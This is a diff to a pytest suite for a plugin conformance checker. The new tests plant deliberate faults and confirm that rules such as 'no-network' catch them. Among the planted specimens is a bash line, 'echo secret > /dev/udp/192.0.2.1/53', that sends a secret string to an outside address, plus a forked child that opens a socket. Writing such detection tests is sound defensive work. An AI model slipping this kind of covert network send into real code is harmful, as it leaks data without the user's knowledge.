@@ -5,12 +5,16 @@ from __future__ import annotations
 import ast
 import os
 import re
+import subprocess
+import sys
+import textwrap
 from collections.abc import Callable
 from pathlib import Path
 
 import pytest
 
 from delegatekit_conformance.cases import Broken, contract, specimens
+from delegatekit_conformance.cases.base import Late
 from delegatekit_conformance.cases.fresh import in_fresh_process
 from delegatekit_conformance.context import PROFILES, Context
 from delegatekit_conformance.outcome import Outcome, Verdict
@@ -52,8 +56,9 @@ def install(install_plugin: Callable[..., Path], monkeypatch: pytest.MonkeyPatch
             source = source.replace(old, new)
         ast.parse(source)
         folder = install_plugin("seeded", source)
-        monkeypatch.setenv("PYTHONPATH", str(folder))
+        monkeypatch.setenv("PYTHONPATH", os.pathsep.join((str(folder), *path)))
 
+    path = list(filter(None, [os.environ.get("PYTHONPATH")]))
     return install
 
 
@@ -473,7 +478,7 @@ def test_a_proposal_that_is_not_convex_is_found(install: Install) -> None:
         ),
     )
     outcome = try_rule("proposals")
-    assert outcome.verdict is Verdict.VIOLATION
+    assert outcome.verdict is Verdict.VIOLATION, outcome.detail
     assert "not convex: aten.mul.Tensor lies in between" in outcome.detail
 
 
@@ -524,6 +529,37 @@ def test_harm_to_processes_is_found(install: Install) -> None:
         assert words in outcome.detail
 
 
+#: Posts from a process that is forked, as Python code, and from a program of another language.
+FORKED = """
+    import socket
+    child = os.fork()
+    if not child:
+        try:
+            socket.socket().connect(("192.0.2.1", 80))
+        finally:
+            os._exit(0)
+    os.waitpid(child, 0)
+"""
+PROGRAM = """
+    import subprocess
+    subprocess.run(["bash", "-c", "echo secret > /dev/udp/192.0.2.1/53"], stderr=subprocess.DEVNULL)
+"""
+
+
+@pytest.mark.parametrize(("harm", "words"), [(FORKED, "socket.connect ('192.0.2.1', 80)"), (PROGRAM, "a program")])
+def test_children_that_use_the_network_are_found(harm: str, words: str, install: Install) -> None:
+    if harm is PROGRAM and subprocess.run([sys.executable, "-c", ISOLATES], check=False).returncode:
+        pytest.skip("this system allows no network namespaces")
+    only_there = "    if 'delegatekit-conformance-' in os.environ['HOME']:\n"
+    install((FRESH, FRESH + only_there + textwrap.indent(harm, "    ")))
+    outcome = try_rule("no-network")
+    assert outcome.verdict is Verdict.VIOLATION, outcome.detail
+    assert words in outcome.detail
+
+
+ISOLATES = "import sys\nfrom delegatekit_conformance.cases.isolation import isolate\nsys.exit(not isolate())"
+
+
 @pytest.mark.slow
 @pytest.mark.parametrize(
     ("harm", "words"),
@@ -536,7 +572,7 @@ def test_processes_that_are_left_are_found(install: Install, harm: str, words: s
     guard = '    if "delegatekit-conformance-" in os.environ["HOME"]:\n'
     install((FRESH, FRESH + guard + f"        import subprocess; {harm}\n"))
     outcome = try_rule("nothing-left-running")
-    assert outcome.verdict is Verdict.VIOLATION
+    assert outcome.verdict is Verdict.VIOLATION, outcome.detail
     assert words in outcome.detail
 
 
@@ -544,7 +580,7 @@ def test_processes_that_are_left_are_found(install: Install, harm: str, words: s
 def test_files_that_depend_on_the_order_of_sets_are_found(install: Install) -> None:
     install(('        "steps": steps,\n', '        "steps": steps,\n        "order": list(set("abcdefgh")),\n'))
     outcome = try_rule("same-bytes-elsewhere")
-    assert outcome.verdict is Verdict.VIOLATION
+    assert outcome.verdict is Verdict.VIOLATION, outcome.detail
     assert "different hash seeds" in outcome.detail
 
 
@@ -552,7 +588,7 @@ def test_blobs_that_only_their_maker_can_run_are_found(install: Install) -> None
     refuse = "        if not KEPT: raise FormatError('never seen', where='blob')\n"
     install((RETURN, "    KEPT.append(blob)\n" + RETURN), (INIT, refuse + INIT))
     outcome = try_rule("runs-elsewhere")
-    assert outcome.verdict is Verdict.VIOLATION
+    assert outcome.verdict is Verdict.VIOLATION, outcome.detail
     assert "never seen" in outcome.detail
 
 
@@ -574,12 +610,16 @@ def test_heavy_imports_are_found(install: Install, tmp_path: Path, monkeypatch: 
         ("import os, signal; os.kill(os.getpid(), signal.SIGSEGV)", "crashed: SIGSEGV"),
         ("import os; os._exit(0)", "ended with exit code 0"),
         ("raise KeyError('lost')", "exit code 1: KeyError: 'lost'"),
-        ("import time; time.sleep(60)", "did not end within 1 s"),
+        ("import time; time.sleep(60)", "did not end within 2 s"),
+        ("while True: pass", "did not end within 1 CPU seconds"),
     ],
 )
-def test_a_fresh_process_that_fails_breaks_the_rule(script: str, words: str) -> None:
-    with pytest.raises(Broken, match=re.escape(words)):
-        in_fresh_process(script, Context("seeded", timeout=2.0), torch_free=True)
+def test_a_fresh_process_that_fails_breaks_the_rule(script: str, words: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    if "CPU" in words:
+        monkeypatch.setattr("delegatekit_conformance.cases.fresh._PATIENCE", 100.0)
+    with pytest.raises(Broken, match=re.escape(words)) as caught:
+        in_fresh_process(script, Context("seeded", timeout=1.0), torch_free=True)
+    assert isinstance(caught.value, Late) == ("end within" in words), "time limits are no rule"
 
 
 def test_a_fresh_process_has_folders_of_its_own() -> None:
